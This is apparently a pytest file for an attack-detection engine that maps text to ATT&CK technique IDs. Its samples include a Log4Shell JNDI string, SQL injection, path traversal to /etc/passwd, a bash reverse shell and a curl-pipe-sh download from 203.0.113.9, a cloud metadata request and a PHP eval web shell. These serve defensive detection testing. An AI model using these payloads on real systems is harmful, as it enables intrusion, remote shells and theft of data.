"""A payload names its technique, and words of the same topic do not."""

from __future__ import annotations

from pathlib import Path

import pytest

from engine import paths
from engine.attack.signs import Signs

SIGNS = Signs(paths.KNOWLEDGE / "attack" / "signs.tsv")


@pytest.mark.parametrize(
    ("text", "technique"),
    [
        ("GET /?q=${jndi:ldap://203.0.113.9/a}", "T1190"),
        ("id=1' UNION ALL SELECT password FROM users --", "T1190"),
        ("/download?file=../../../../etc/passwd", "T1190"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "T1059.004"),
        ('{"method": "mining.subscribe"}', "T1496.001"),
        ("GET http://169.254.169.254/latest/meta-data/", "T1552.005"),
        ("<?php @eval($_POST['x']);", "T1505.003"),
        ("curl http://203.0.113.9/x.sh | sh", "T1105"),
        ("服务器上发现冰蝎流量", "T1505.003"),
    ],
)
def test_a_payload_names_its_technique(text: str, technique: str) -> None:
    assert technique in SIGNS.techniques(text)


@pytest.mark.parametrize(
    "text",
    [
        "the union selected a new chair",
        "please evaluate the assertion in the report",
        "the medical fluid is in the lab",
        "GET /static/app.js",
        "会员登录成功",
    ],
)
def test_plain_words_are_no_sign(text: str) -> None:
    assert SIGNS.techniques(text) == set()


@pytest.mark.parametrize("text", ["../" * 20_000, "${" * 20_000, "curl " * 20_000, "'" * 50_000, "\x00" * 50_000])
def test_hostile_text_is_read_to_the_end(text: str) -> None:
    SIGNS.techniques(text)


@pytest.mark.parametrize("line", ["T1190", "T1190\t(", "a\tb\tc"])
def test_a_faulty_line_is_named(tmp_path: Path, line: str) -> None:
    path = tmp_path / "signs.tsv"
    path.write_text(f"T1046\tnmap\n{line}\n")
    with pytest.raises(ValueError, match=r"signs\.tsv, line 2"):
        Signs(path)
